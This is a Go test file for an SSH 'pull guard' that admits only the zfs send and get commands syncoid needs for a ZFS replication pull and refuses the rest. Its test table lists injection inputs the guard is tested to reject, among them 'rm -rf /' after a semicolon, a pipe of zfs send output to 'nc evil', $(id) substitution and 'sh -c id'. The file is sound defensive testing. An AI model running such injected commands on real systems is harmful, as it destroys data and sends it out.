package jobs_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/borgkit/borgkit/provision/config"
	"github.com/borgkit/borgkit/roles/jobs"
)

// pullConfig is the example with the archive pulling tank/data from
// john-ai, a host of the file.
func pullConfig(t testing.TB) *config.Config {
	t.Helper()
	src := strings.Replace(string(config.Example()), "      host: 100.64.0.10\n", "      host: john-ai\n", 1)
	cfg, err := config.Parse("example.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func TestPullGuard(t *testing.T) {
	cfg := pullConfig(t)
	tests := []struct {
		name    string
		archive string
		command string
		run     string // the zfs argv executed, "" for none
		refused string // part of the refusal, "" when served
	}{
		// What syncoid 2.1.0 sends for a pull with the job's flags, quoting
		// and spacing as it builds them.
		{"master connection", "archive", "exit", "", ""},
		{"connection test", "archive", "echo -n", "", ""},
		{"sync property", "archive", "zfs get -H syncoid:sync 'tank/data'", "zfs get -H syncoid:sync tank/data", ""},
		{"snapshot list", "archive", "zfs get -Hpd 1 -t snapshot guid,creation 'tank/data'",
			"zfs get -Hpd 1 -t snapshot guid,creation tank/data", ""},
		{"snapshot list, old zfs", "archive", "zfs get -Hpd 1 type,guid,creation 'tank/data'",
			"zfs get -Hpd 1 type,guid,creation tank/data", ""},
		{"bookmark list", "archive", "zfs get -Hpd 1 -t bookmark guid,creation 'tank/data'",
			"zfs get -Hpd 1 -t bookmark guid,creation tank/data", ""},
		{"full send estimate", "archive", "zfs send  -nvP 'tank/data@autosnap_2025-01-02_00:00:01_daily'",
			"zfs send -nvP tank/data@autosnap_2025-01-02_00:00:01_daily", ""},
		{"full send", "archive", " zfs send  'tank/data'@'autosnap_2025-01-02_00:00:01_daily'",
			"zfs send tank/data@autosnap_2025-01-02_00:00:01_daily", ""},
		{"incremental estimate", "archive", "zfs send  -nvP -I 'tank/data@a' 'tank/data@b'",
			"zfs send -nvP -I tank/data@a tank/data@b", ""},
		{"incremental send", "archive", " zfs send  -I 'tank/data'@'a' 'tank/data'@'b'",
			"zfs send -I tank/data@a tank/data@b", ""},
		{"from a bookmark", "archive", " zfs send  -i 'tank/data'#'a' 'tank/data'@'b'",
			"zfs send -i tank/data#a tank/data@b", ""},
		{"double quotes", "archive", `zfs send "tank/data@b"`, "zfs send tank/data@b", ""},

		// Probes answered "absent" (non-zero, nothing run).
		{"mbuffer probe", "archive", "command -v mbuffer", "", "not offered"},

		// Everything else.
		{"shell", "archive", "", "", "a shell is not offered"},
		{"blank", "archive", "  ", "", "a shell is not offered"},
		{"command after ;", "archive", "zfs send pool/a; rm -rf /", "", `character ';'`},
		{"command after ; on the right dataset", "archive", "zfs send tank/data@a;id", "", `character ';'`},
		{"pipe", "archive", "zfs send tank/data@a | nc evil 1", "", `character '|'`},
		{"and", "archive", "zfs send tank/data@a && id", "", `character '&'`},
		{"substitution", "archive", "zfs send $(id)", "", `character '$'`},
		{"backticks", "archive", "zfs send `id`", "", "character '`'"},
		{"redirect", "archive", "zfs send tank/data@a > /root/x", "", `character '>'`},
		{"newline", "archive", "zfs send tank/data@a\nid", "", `character '\n'`},
		{"backslash", "archive", `zfs send tank/data@a\ b`, "", `character '\\'`},
		{"glob", "archive", "zfs send tank/*@a", "", `character '*'`},
		{"unterminated quote", "archive", "zfs send 'tank/data@a", "", "unterminated ' quote"},
		{"quoted semicolon", "archive", "zfs send 'tank/data@a;id'", "", `character ';'`},
		{"another dataset", "archive", "zfs send pool/other@a", "", `dataset "pool/other" is not the pulled dataset`},
		{"a child dataset", "archive", "zfs send tank/data/child@a", "", `dataset "tank/data/child"`},
		{"dot-dot in the dataset", "archive", "zfs send 'tank/data/../other@a'", "", `dataset "tank/data/../other"`},
		{"dot-dot snapshot", "archive", "zfs send tank/data@..", "", `snapshot name ".." is not allowed`},
		{"no snapshot", "archive", "zfs send tank/data", "", "is not a snapshot"},
		{"two @", "archive", "zfs send tank/data@a@b", "", "is not a snapshot"},
		{"incremental from another dataset", "archive", "zfs send -I pool/other@a tank/data@b", "", `dataset "pool/other"`},
		{"two incremental sources", "archive", "zfs send -i tank/data@a -I tank/data@b tank/data@c", "", "one incremental source"},
		{"replication stream", "archive", "zfs send -R tank/data@a", "", "option -R is not allowed"},
		{"raw", "archive", "zfs send -w tank/data@a", "", "option -w is not allowed"},
		{"long option", "archive", "zfs send --raw tank/data@a", "", `option "--raw" is not allowed`},
		{"resume token", "archive", "zfs send -t 1-abc-def", "", "option -t is not allowed"},
		{"option after the snapshot", "archive", "zfs send tank/data@a -R", "", "one snapshot here"},
		{"-o property", "archive", "zfs send -o compress tank/data@a", "", "option -o is not allowed"},
		{"-o with =", "archive", "zfs get -o name=x guid tank/data", "", `character '='`},
		{"destroy", "archive", "zfs destroy tank/data@a", "", `"zfs" is not a command the pull needs`},
		{"destroy, quoted", "archive", "zfs destroy 'tank/data'", "", "not a command the pull needs"},
		{"snapshot", "archive", "zfs snapshot tank/data@syncoid_x", "", "not a command the pull needs"},
		{"receive", "archive", "zfs receive -F tank/data", "", "not a command the pull needs"},
		{"zfs by path", "archive", "/sbin/zfs send tank/data@a", "", "not a command the pull needs"},
		{"resume probe", "archive", "zpool get -o value -H feature@extensible_dataset 'tank'", "", "not a command the pull needs"},
		{"other program", "archive", "sh -c id", "", `"sh" is not a command the pull needs`},
		{"get of another dataset", "archive", "zfs get -H guid pool/other", "", `dataset "pool/other"`},
		{"get all", "archive", "zfs get all tank/data", "", `property "all" is not allowed`},
		{"get recursive", "archive", "zfs get -r guid tank/data", "", "option -r is not allowed"},
		{"get deeper", "archive", "zfs get -d 2 guid tank/data", "", "only depth 1"},
		{"get of a snapshot name", "archive", "zfs get guid tank/data@a", "", `dataset "tank/data@a"`},
		{"probe with a path", "archive", "command -v /bin/sh", "", "not a command the pull needs"},
		{"key of a host that does not pull", "pi", "zfs get -H guid tank/data", "", "pi is not an archive host pulling from john-ai"},
		{"unknown host", "nobody", "exit", "", "nobody is not an archive host"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var log bytes.Buffer
			var ran []string
			g := &jobs.PullGuard{Cfg: cfg, Self: "john-ai", Log: &log,
				Now: func() time.Time { return time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC) },
				Exec: func(argv []string) error {
					ran = append(ran, strings.Join(argv, " "))
					return nil
				}}
			err := g.Serve(tt.archive, tt.command, "100.64.0.3 51234 22")
			if got := strings.Join(ran, "; "); got != tt.run {
				t.Errorf("ran %q, want %q", got, tt.run)
			}
			switch {
			case tt.refused == "" && err != nil:
				t.Errorf("refused: %v", err)
			case tt.refused != "" && (err == nil || !strings.Contains(err.Error(), tt.refused)):
				t.Errorf("got %v, want a refusal containing %q", err, tt.refused)
			}
			// One log line per session, the command quoted so that a
			// newline in it cannot forge a second line.
			l := log.String()
			if strings.Count(l, "\n") != 1 || !strings.HasPrefix(l, "2025-01-02T03:04:05Z pull-guard "+tt.archive+" from 100.64.0.3: ") {
				t.Errorf("log %q", l)
			}
			refusal := err != nil && !errors.Is(err, jobs.ErrNotOffered)
			if strings.Contains(l, "REFUSED") != refusal {
				t.Errorf("log %q for error %v", l, err)
			}
		})
	}
}

func TestPullGuardReportsExecFailure(t *testing.T) {
	g := &jobs.PullGuard{Cfg: pullConfig(t), Self: "john-ai",
		Exec: func([]string) error { return errors.New(`exec: "zfs": executable file not found in $PATH`) }}
	err := g.Serve("archive", "zfs get -H syncoid:sync tank/data", "")
	if err == nil || !strings.Contains(err.Error(), "pull-guard archive: zfs get -H syncoid:sync tank/data: exec") {
		t.Fatalf("%v", err)
	}
}

func TestPullGuardOnlyOnTheLiveServer(t *testing.T) {
	g := &jobs.PullGuard{Cfg: pullConfig(t), Self: "pi", Exec: func([]string) error { t.Fatal("ran"); return nil }}
	if err := g.Serve("archive", "exit", ""); err == nil || !strings.Contains(err.Error(), "not an archive host pulling from pi") {
		t.Fatalf("%v", err)
	}
}
